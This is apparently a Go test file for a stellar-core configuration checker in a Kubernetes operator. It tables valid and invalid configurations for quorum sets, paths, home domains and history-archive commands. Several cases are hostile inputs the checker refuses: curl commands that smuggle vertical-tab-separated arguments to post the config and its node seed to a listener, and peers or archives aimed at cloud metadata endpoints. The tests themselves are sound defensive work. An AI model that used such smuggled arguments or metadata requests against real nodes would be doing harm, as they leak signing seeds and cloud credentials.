package stellarcore

import (
	"errors"
	"maps"
	"slices"
	"strings"
	"testing"

	"github.com/stellar-k8s/stellar-operator/internal/quorum"
	"github.com/stellar-k8s/stellar-operator/internal/strkey"
)

// testKey is the seed and public key number i, made up for tests.
func testKey(i byte) (seed, public string) {
	raw := make([]byte, 32)
	raw[0], raw[31] = i, 0x5a
	seed = strkey.Encode(versionSeed, raw)
	public, err := PublicKeyOfSeed(seed)
	if err != nil {
		panic(err)
	}
	return seed, public
}

func pub(i byte) string { _, p := testKey(i); return p }

// entry is a [[VALIDATORS]] entry of example.org.
func entry(name string, key byte, extra ...string) map[string]any {
	e := map[string]any{"NAME": name, "PUBLIC_KEY": pub(key), "HOME_DOMAIN": "example.org"}
	for i := 0; i+1 < len(extra); i += 2 {
		e[extra[i]] = extra[i+1]
	}
	return e
}

// organisation is a valid rendered configuration: the node (key 1) and two others of example.org at
// HIGH quality, each other one with its archive.
func organisation() map[string]any {
	seed, _ := testKey(1)
	return map[string]any{
		"LOG_FILE_PATH":      "",
		"DATABASE":           Database,
		"BUCKET_DIR_PATH":    BucketDir,
		"NETWORK_PASSPHRASE": "Example ; 2026",
		"NODE_IS_VALIDATOR":  true,
		"NODE_SEED":          seed,
		"NODE_HOME_DOMAIN":   "example.org",
		"HOME_DOMAINS":       []map[string]any{{"HOME_DOMAIN": "example.org", "QUALITY": "HIGH"}},
		"VALIDATORS": []map[string]any{
			entry("b", 2, "HISTORY", "curl -sf http://b/{0} -o {1}"),
			entry("c", 3, "HISTORY", "curl -sf http://c/{0} -o {1}"),
		},
	}
}

// explicitQuorum is a valid configuration with a raw [QUORUM_SET] of four keys and an SDF-style archive.
func explicitQuorum() map[string]any {
	cfg := organisation()
	delete(cfg, "VALIDATORS")
	delete(cfg, "HOME_DOMAINS")
	delete(cfg, "NODE_HOME_DOMAIN")
	cfg["QUORUM_SET"] = map[string]any{"THRESHOLD_PERCENT": int64(67), "VALIDATORS": []any{pub(2), pub(3), pub(4), pub(5)}}
	cfg["HISTORY"] = map[string]any{"sdf": map[string]any{"get": "curl -sf https://history.example.org/{0} -o {1}"}}
	return cfg
}

func with(base map[string]any, change func(map[string]any)) map[string]any {
	cfg := maps.Clone(base)
	change(cfg)
	return cfg
}

func qsetOf(percent int64, keys ...any) map[string]any {
	return map[string]any{"THRESHOLD_PERCENT": percent, "VALIDATORS": keys}
}

// checkCase is a configuration and what the checker must say of it.
type checkCase struct {
	name string
	cfg  map[string]any
	// rule is the rule broken, "" for a configuration stellar-core accepts; message a part of its message.
	rule, message string
}

// checkCases are the checker's table, each rule with a passing and a failing case; the real
// stellar-core is given the same ones (make test-stellar-core).
func checkCases() []checkCase {
	return []checkCase{
		{"an organisation of three at HIGH quality", organisation(), "", ""},
		{"a raw quorum set of four", explicitQuorum(), "", ""},

		{"an unknown key", with(organisation(), func(c map[string]any) { c["PEER_PORTS"] = int64(1) }),
			RuleUnknownKey, "Unknown configuration entry: 'PEER_PORTS'"},
		{"a key only test builds know", with(organisation(), func(c map[string]any) { c["ALLOW_PRIVATE_ADDRESSES_FOR_TESTING"] = true }),
			RuleUnknownKey, "ALLOW_PRIVATE_ADDRESSES_FOR_TESTING"},
		{"a known optional key", with(organisation(), func(c map[string]any) { c["TARGET_PEER_CONNECTIONS"] = int64(8) }), "", ""},

		{"no LOG_FILE_PATH", with(organisation(), func(c map[string]any) { delete(c, "LOG_FILE_PATH") }), RulePaths, "LOG_FILE_PATH"},
		{"an absolute log file", with(organisation(), func(c map[string]any) { c["LOG_FILE_PATH"] = "/data/core.log" }), "", ""},
		{"a relative database", with(organisation(), func(c map[string]any) { c["DATABASE"] = "sqlite3://stellar.db" }), RulePaths, "DATABASE"},
		{"a PostgreSQL database", with(organisation(), func(c map[string]any) { c["DATABASE"] = "postgresql://dbname=core host=db" }), "", ""},
		{"relative buckets", with(organisation(), func(c map[string]any) { c["BUCKET_DIR_PATH"] = "buckets" }), RulePaths, "BUCKET_DIR_PATH"},

		{"no archive to read", with(explicitQuorum(), func(c map[string]any) { delete(c, "HISTORY") }),
			RuleNoReadableArchive, "No readable archives configured"},
		{"an archive with put and no get", with(explicitQuorum(), func(c map[string]any) {
			c["HISTORY"] = map[string]any{"local": map[string]any{"put": "cp {0} /data/history/{1}"}}
		}), RuleArchiveCommand, "put command but no get"},
		{"a local archive with get, put and mkdir", with(explicitQuorum(), func(c map[string]any) {
			c["HISTORY"] = map[string]any{"local": map[string]any{"get": "cp /data/history/{0} {1}", "put": "cp {0} /data/history/{1}", "mkdir": "mkdir -p /data/history/{0}"}}
		}), "", ""},
		{"a get command with a pipe", with(explicitQuorum(), func(c map[string]any) {
			c["HISTORY"] = map[string]any{"sdf": map[string]any{"get": "curl -sf https://h/{0} | gunzip > {1}"}}
		}), RuleArchiveCommand, "not allowed"},
		// A vertical tab is whitespace to stellar-core's split and to nothing else: the URL becomes
		// arguments of curl that post the whole file, seed included, to a listener.
		{"a get command whose URL hides arguments", with(explicitQuorum(), func(c map[string]any) {
			c["HISTORY"] = map[string]any{"sdf": map[string]any{"get": "curl -sf http://127.0.0.1:1/x\v--data-binary\v@/etc/stellar/rendered/stellar-core.cfg\v-H\vx:/{0} -o {1}"}}
		}), RuleArchiveCommand, "splits into other arguments"},
		{"a peer's HISTORY whose URL hides arguments", with(organisation(), func(c map[string]any) {
			c["VALIDATORS"] = []map[string]any{
				entry("b", 2, "HISTORY", "curl -sf http://b/x\v--data-binary\v@/etc/stellar/rendered/stellar-core.cfg/{0} -o {1}"),
				entry("c", 3, "HISTORY", "curl -sf http://c/{0} -o {1}"),
			}
		}), RuleArchiveCommand, "splits into other arguments"},
		{"a get command with a placeholder stellar-core cannot fill", with(explicitQuorum(), func(c map[string]any) {
			c["HISTORY"] = map[string]any{"sdf": map[string]any{"get": "curl -sf https://h/{2}/{0} -o {1}"}}
		}), RuleArchiveCommand, "not allowed"},
		{"a known peer that hides an option", with(explicitQuorum(), func(c map[string]any) {
			c["KNOWN_PEERS"] = []any{"core.example.org:11625", "core.example.org:11625 --x"}
		}), RuleInvalidValue, "KNOWN_PEERS entry"},
		// Hostile neighbours: hosts a validator must never be sent to.
		{"a known peer at the cloud metadata address", with(explicitQuorum(), func(c map[string]any) {
			c["KNOWN_PEERS"] = []any{"169.254.169.254:80"}
		}), RuleInvalidValue, "metadata"},
		{"a preferred peer on the validator's own admin port", with(explicitQuorum(), func(c map[string]any) {
			c["PREFERRED_PEERS"] = []any{"127.0.0.1:11626"}
		}), RuleInvalidValue, "loopback"},
		{"a validator entry at a metadata service", with(organisation(), func(c map[string]any) {
			c["VALIDATORS"] = []map[string]any{
				entry("b", 2, "HISTORY", "curl -sf http://b/{0} -o {1}", "ADDRESS", "metadata.google.internal:80"),
				entry("c", 3, "HISTORY", "curl -sf http://c/{0} -o {1}"),
			}
		}), RuleInvalidValue, "metadata"},
		{"a peer's archive at the metadata service", with(organisation(), func(c map[string]any) {
			c["VALIDATORS"] = []map[string]any{
				entry("b", 2, "HISTORY", "curl -sf http://169.254.169.254/latest/meta-data/{0} -o {1}"),
				entry("c", 3, "HISTORY", "curl -sf http://c/{0} -o {1}"),
			}
		}), RuleArchiveCommand, "link-local"},
		{"a loopback archive", with(explicitQuorum(), func(c map[string]any) {
			c["HISTORY"] = map[string]any{"sdf": map[string]any{"get": "curl -sf http://localhost:8080/{0} -o {1}"}}
		}), RuleArchiveCommand, "loopback"},
		{"a passphrase with a line separator", with(explicitQuorum(), func(c map[string]any) {
			c["NETWORK_PASSPHRASE"] = "Probe\u0085Net"
		}), RuleInvalidValue, "NETWORK_PASSPHRASE"},
		{"a validator entry whose ADDRESS is not host:port", with(organisation(), func(c map[string]any) {
			c["VALIDATORS"] = []map[string]any{
				entry("b", 2, "HISTORY", "curl -sf http://b/{0} -o {1}", "ADDRESS", "b\u00a0:11625"),
				entry("c", 3, "HISTORY", "curl -sf http://c/{0} -o {1}"),
			}
		}), RuleInvalidValue, "ADDRESS"},
		{"a put command with an option", with(explicitQuorum(), func(c map[string]any) {
			c["HISTORY"] = map[string]any{"s3": map[string]any{"get": "curl -sf https://h/{0} -o {1}", "put": "aws s3 cp {0} s3://b/{1} --endpoint-url=http://127.0.0.1:1"}}
		}), RuleArchiveCommand, "not starting with -"},
		{"a get command without the local path", with(explicitQuorum(), func(c map[string]any) {
			c["HISTORY"] = map[string]any{"sdf": map[string]any{"get": "curl -sf https://h/{0}"}}
		}), RuleArchiveCommand, "{1}"},

		{"a validator without a quorum", with(explicitQuorum(), func(c map[string]any) { delete(c, "QUORUM_SET") }),
			RuleNoQuorum, "needs a quorum"},
		{"a watcher without a quorum", with(explicitQuorum(), func(c map[string]any) {
			delete(c, "QUORUM_SET")
			c["NODE_IS_VALIDATOR"] = false
		}), RuleNoQuorum, "no validators defined"},
		{"a watcher with a quorum set", with(explicitQuorum(), func(c map[string]any) { c["NODE_IS_VALIDATOR"] = false }), "", ""},

		{"THRESHOLD_PERCENT 150", with(explicitQuorum(), func(c map[string]any) { c["QUORUM_SET"] = qsetOf(150, pub(2), pub(3), pub(4), pub(5)) }),
			RuleInvalidQuorumSet, "invalid THRESHOLD_PERCENT"},
		{"THRESHOLD_PERCENT 0", with(explicitQuorum(), func(c map[string]any) { c["QUORUM_SET"] = qsetOf(0, pub(2), pub(3), pub(4), pub(5)) }),
			RuleInvalidQuorumSet, "invalid THRESHOLD_PERCENT"},
		{"a key that is not one", with(explicitQuorum(), func(c map[string]any) { c["QUORUM_SET"] = qsetOf(67, "GNOTAKEY", pub(3), pub(4), pub(5)) }),
			RuleInvalidQuorumSet, `bad public key "GNOTAKEY"`},
		{"one key twice", with(explicitQuorum(), func(c map[string]any) { c["QUORUM_SET"] = qsetOf(67, pub(2), pub(2), pub(4), pub(5)) }),
			RuleInvalidQuorumSet, "Duplicate node found"},
		{"a stray key inside [QUORUM_SET]", with(explicitQuorum(), func(c map[string]any) {
			q := qsetOf(67, pub(2), pub(3), pub(4), pub(5))
			q["CATCHUP_COMPLETE"] = true
			c["QUORUM_SET"] = q
		}), RuleInvalidQuorumSet, "should be a group"},
		{"an empty VALIDATORS", with(explicitQuorum(), func(c map[string]any) { c["QUORUM_SET"] = qsetOf(67) }),
			RuleInvalidQuorumSet, "invalid quorum set definition"},
		{"six levels of inner sets", with(explicitQuorum(), func(c map[string]any) {
			q := qsetOf(100, pub(9))
			for i := range 6 {
				q = map[string]any{"THRESHOLD_PERCENT": int64(100), "VALIDATORS": []any{pub(byte(10 + i))}, "INNER": q}
			}
			c["QUORUM_SET"] = q
		}), RuleInvalidQuorumSet, "too many levels"},
		{"an inner set", with(explicitQuorum(), func(c map[string]any) {
			c["QUORUM_SET"] = map[string]any{"THRESHOLD_PERCENT": int64(67), "VALIDATORS": []any{pub(2), pub(3), pub(4)},
				"ORG": qsetOf(67, pub(5), pub(6), pub(7), pub(8))}
		}), "", ""},

		{"three of three", with(explicitQuorum(), func(c map[string]any) { c["QUORUM_SET"] = qsetOf(67, pub(2), pub(3), pub(4)) }),
			RuleUnsafeQuorum, "stops when any one of them fails"},
		{"three of three with UNSAFE_QUORUM", with(explicitQuorum(), func(c map[string]any) {
			c["QUORUM_SET"] = qsetOf(67, pub(2), pub(3), pub(4))
			c["UNSAFE_QUORUM"] = true
		}), "", ""},
		{"a threshold below a safe one", with(explicitQuorum(), func(c map[string]any) { c["QUORUM_SET"] = qsetOf(50, pub(2), pub(3), pub(4), pub(5)) }),
			RuleUnsafeQuorum, "THRESHOLD_PERCENT too low"},
		{"all of four required", with(explicitQuorum(), func(c map[string]any) { c["QUORUM_SET"] = qsetOf(100, pub(2), pub(3), pub(4), pub(5)) }),
			RuleUnsafeQuorum, "FAILURE_SAFETY incompatible"},

		{"a home domain with an unknown field", with(organisation(), func(c map[string]any) {
			c["HOME_DOMAINS"] = []map[string]any{{"HOME_DOMAIN": "example.org", "QUALITY": "HIGH", "URL": "x"}}
		}), RuleHomeDomains, "Unknown field 'URL'"},
		{"a home domain of unknown quality", with(organisation(), func(c map[string]any) {
			c["HOME_DOMAINS"] = []map[string]any{{"HOME_DOMAIN": "example.org", "QUALITY": "BEST"}}
		}), RuleHomeDomains, "Unknown QUALITY 'BEST'"},
		{"a home domain twice", with(organisation(), func(c map[string]any) {
			c["HOME_DOMAINS"] = []map[string]any{{"HOME_DOMAIN": "example.org", "QUALITY": "HIGH"}, {"HOME_DOMAIN": "example.org", "QUALITY": "HIGH"}}
		}), RuleHomeDomains, "duplicate 'example.org'"},

		{"a validator without NAME", with(organisation(), func(c map[string]any) {
			c["VALIDATORS"] = []map[string]any{{"PUBLIC_KEY": pub(2), "HOME_DOMAIN": "example.org"}}
		}), RuleValidators, "missing 'NAME'"},
		{"a validator with an unknown field", with(organisation(), func(c map[string]any) {
			c["VALIDATORS"] = []map[string]any{entry("b", 2, "HISTORY", "curl -sf http://b/{0} -o {1}", "PORT", "1"),
				entry("c", 3, "HISTORY", "curl -sf http://c/{0} -o {1}")}
		}), RuleValidators, "unknown element 'PORT'"},
		{"a quality on the entry and its domain", with(organisation(), func(c map[string]any) {
			c["VALIDATORS"] = []map[string]any{entry("b", 2, "HISTORY", "curl -sf http://b/{0} -o {1}", "QUALITY", "HIGH"),
				entry("c", 3, "HISTORY", "curl -sf http://c/{0} -o {1}")}
		}), RuleValidators, "quality already defined in home domain"},
		{"a HIGH validator without an archive", with(organisation(), func(c map[string]any) {
			c["VALIDATORS"] = []map[string]any{entry("b", 2), entry("c", 3, "HISTORY", "curl -sf http://c/{0} -o {1}")}
		}), RuleValidators, "critical and high quality must have an archive"},
		{"one name twice", with(organisation(), func(c map[string]any) {
			c["VALIDATORS"] = []map[string]any{entry("b", 2, "HISTORY", "curl -sf http://b/{0} -o {1}"),
				entry("b", 3, "HISTORY", "curl -sf http://c/{0} -o {1}")}
		}), RuleValidators, "naming node twice: b"},
		{"a HIGH organisation of two", with(organisation(), func(c map[string]any) {
			c["VALIDATORS"] = []map[string]any{entry("b", 2, "HISTORY", "curl -sf http://b/{0} -o {1}")}
		}), RuleValidators, "must have redundancy of at least 3"},
		{"the node listing itself", with(organisation(), func(c map[string]any) {
			c["VALIDATORS"] = append(c["VALIDATORS"].([]map[string]any), entry("self", 1, "HISTORY", "curl -sf http://a/{0} -o {1}"))
		}), RuleSelfListed, "lists itself"},

		{"no NODE_HOME_DOMAIN", with(organisation(), func(c map[string]any) { delete(c, "NODE_HOME_DOMAIN") }),
			RuleNodeHomeDomain, "NODE_HOME_DOMAIN must be set"},
		{"a NODE_HOME_DOMAIN without its HOME_DOMAINS", with(organisation(), func(c map[string]any) { c["NODE_HOME_DOMAIN"] = "example.com" }),
			RuleNodeHomeDomain, "no matching HOME_DOMAINS"},

		{"a MEDIUM organisation none of whose members has an archive", with(organisation(), func(c map[string]any) {
			c["HOME_DOMAINS"] = []map[string]any{{"HOME_DOMAIN": "example.org", "QUALITY": "MEDIUM"}}
			c["VALIDATORS"] = []map[string]any{entry("b", 2), entry("c", 3)}
			c["HISTORY"] = map[string]any{"sdf": map[string]any{"get": "curl -sf https://h/{0} -o {1}"}}
		}), RuleArchivesNotBlocking, "Quorum can be reached without validators with an archive"},
		{"a MEDIUM organisation of one with UNSAFE_QUORUM", with(organisation(), func(c map[string]any) {
			c["HOME_DOMAINS"] = []map[string]any{{"HOME_DOMAIN": "example.org", "QUALITY": "MEDIUM"}}
			delete(c, "VALIDATORS")
			c["UNSAFE_QUORUM"] = true
			c["HISTORY"] = map[string]any{"local": map[string]any{"get": "cp /data/history/{0} {1}"}}
		}), "", ""},
		{"a MEDIUM organisation of one", with(organisation(), func(c map[string]any) {
			c["HOME_DOMAINS"] = []map[string]any{{"HOME_DOMAIN": "example.org", "QUALITY": "MEDIUM"}}
			delete(c, "VALIDATORS")
			c["HISTORY"] = map[string]any{"local": map[string]any{"get": "cp /data/history/{0} {1}"}}
		}), RuleUnsafeQuorum, "stops when any one of them fails"},
		{"a MEDIUM organisation of two", with(organisation(), func(c map[string]any) {
			c["HOME_DOMAINS"] = []map[string]any{{"HOME_DOMAIN": "example.org", "QUALITY": "MEDIUM"}}
			c["VALIDATORS"] = []map[string]any{entry("b", 2, "HISTORY", "curl -sf http://b/{0} -o {1}")}
		}), RuleUnsafeQuorum, "needs at least 3 validators"},
		{"a [QUORUM_SET] that overrides [[VALIDATORS]]", with(organisation(), func(c map[string]any) {
			c["QUORUM_SET"] = qsetOf(67, pub(2), pub(3), pub(4), pub(5))
		}), RuleUnsafeQuorum, "differs from the one generated"},
	}
}

func TestCheck(t *testing.T) {
	rules := map[string]bool{}
	for _, c := range checkCases() {
		t.Run(c.name, func(t *testing.T) {
			text, err := encode(c.cfg)
			if err != nil {
				t.Fatal(err)
			}
			err = Check(text, CheckOptions{Profile: Newest()})
			if c.rule == "" {
				if err != nil {
					t.Fatalf("refused a configuration stellar-core accepts: %v\n%s", err, text)
				}
				return
			}
			var cerr *ConfigError
			if !errors.As(err, &cerr) {
				t.Fatalf("accepted a configuration stellar-core refuses (%s)\n%s", c.rule, text)
			}
			found := false
			for _, v := range cerr.Violations {
				if v.Rule == c.rule && strings.Contains(v.Message, c.message) {
					found = true
				}
			}
			if !found {
				t.Errorf("violations = %+v, want %s with %q", cerr.Violations, c.rule, c.message)
			}
		})
		rules[c.rule] = true
	}
	for _, r := range []string{RuleUnknownKey, RulePaths, RuleNoReadableArchive, RuleArchiveCommand, RuleNoQuorum,
		RuleInvalidQuorumSet, RuleUnsafeQuorum, RuleHomeDomains, RuleValidators, RuleSelfListed, RuleNodeHomeDomain,
		RuleArchivesNotBlocking} {
		if !rules[r] {
			t.Errorf("no case breaks rule %s", r)
		}
	}
}

func TestCheckSyntaxAndSeed(t *testing.T) {
	if err := Check("THIS IS = = not toml", CheckOptions{Profile: Newest()}); err == nil || !strings.Contains(err.Error(), "not valid TOML") {
		t.Errorf("err = %v", err)
	}
	text, _ := encode(with(organisation(), func(c map[string]any) { c["NODE_SEED"] = "SNOTASEED" }))
	err := Check(text, CheckOptions{Profile: Newest()})
	if err == nil || strings.Contains(err.Error(), "SNOTASEED") {
		t.Errorf("a bad seed is refused without being repeated: %v", err)
	}
	// A base configuration has no seed: the node's key comes from the options.
	base := with(organisation(), func(c map[string]any) {
		delete(c, "NODE_SEED")
		c["VALIDATORS"] = append(c["VALIDATORS"].([]map[string]any), entry("self", 1, "HISTORY", "curl -sf http://a/{0} -o {1}"))
	})
	text, _ = encode(base)
	if err := Check(text, CheckOptions{Profile: Newest(), SelfKey: pub(1)}); err == nil || !strings.Contains(err.Error(), "lists itself") {
		t.Errorf("err = %v", err)
	}
}

func TestCheckNeedsAProfile(t *testing.T) {
	text, _ := encode(organisation())
	if err := Check(text, CheckOptions{}); err == nil {
		t.Error("a check without a release line must fail: the rules depend on it")
	}
}

func TestPublicKeyOfSeed(t *testing.T) {
	// From examples/custom-network-validators.yaml: the seed of private-1 and the key the others list.
	got, err := PublicKeyOfSeed("SD2FP32ZJ3ETJNGDLE5QBDPOLWSCQZTAUEYX3JVBSFSULRC65BYPE3EI")
	if err != nil || got != "GCYKZEUA6S5TU7CSMUEJNH7NGUQKKLHVCFK6W32GCUR6VB324MSCIKNS" {
		t.Errorf("got %s, %v", got, err)
	}
	if _, err := PublicKeyOfSeed("SD2FP32ZJ3ETJNGDLE5QBDPOLWSCQZTAUEYX3JVBSFSULRC65BYPE3EJ"); err == nil {
		t.Error("a seed with a bad checksum must be refused")
	}
	if ValidPublicKey("GNOTAKEY") || ValidPublicKey("SD2FP32ZJ3ETJNGDLE5QBDPOLWSCQZTAUEYX3JVBSFSULRC65BYPE3EI") {
		t.Error("only G... keys are public keys")
	}
}

// A test bed on one machine admits loopback peers and archives, and nothing else it would refuse.
func TestCheckOnALoopbackTestBed(t *testing.T) {
	loopback := with(explicitQuorum(), func(c map[string]any) {
		c["KNOWN_PEERS"] = []any{"127.0.0.2:11625"}
		c["HISTORY"] = map[string]any{"sdf": map[string]any{"get": "curl -sf http://127.0.0.1:8080/{0} -o {1}"}}
	})
	opts := CheckOptions{Profile: Newest(), AllowLoopback: true}
	for name, cfg := range map[string]map[string]any{"loopback": loopback,
		"metadata": with(explicitQuorum(), func(c map[string]any) { c["KNOWN_PEERS"] = []any{"169.254.169.254:80"} })} {
		text, err := encode(cfg)
		if err != nil {
			t.Fatal(err)
		}
		if err := Check(text, opts); (err == nil) != (name == "loopback") {
			t.Errorf("%s on a test bed: %v", name, err)
		}
	}
}

// The quorum set a configuration gives its node is the one Check decided on: generated from
// [[VALIDATORS]] with the node itself, or the [QUORUM_SET] as written.
func TestQuorumSetOf(t *testing.T) {
	for name, c := range map[string]struct {
		cfg  map[string]any
		want quorum.QSet
	}{
		"an organisation of three, generated": {organisation(),
			quorum.QSet{Threshold: 2, Validators: []string{pub(1), pub(2), pub(3)}}},
		"a raw [QUORUM_SET]": {explicitQuorum(),
			quorum.QSet{Threshold: 3, Validators: []string{pub(2), pub(3), pub(4), pub(5)}}},
	} {
		text, err := encode(c.cfg)
		if err != nil {
			t.Fatal(err)
		}
		got, err := QuorumSetOf(text, Newest(), "")
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		slices.Sort(got.Validators)
		want := c.want
		slices.Sort(want.Validators)
		if got.Threshold != want.Threshold || !slices.Equal(got.Validators, want.Validators) || len(got.InnerSets) != len(want.InnerSets) {
			t.Errorf("%s: %+v, want %+v", name, got, want)
		}
	}
	refused, _ := encode(with(organisation(), func(c map[string]any) { delete(c, "NODE_HOME_DOMAIN") }))
	if _, err := QuorumSetOf(refused, Newest(), ""); err == nil {
		t.Error("a configuration Check refuses has no quorum set")
	}
}
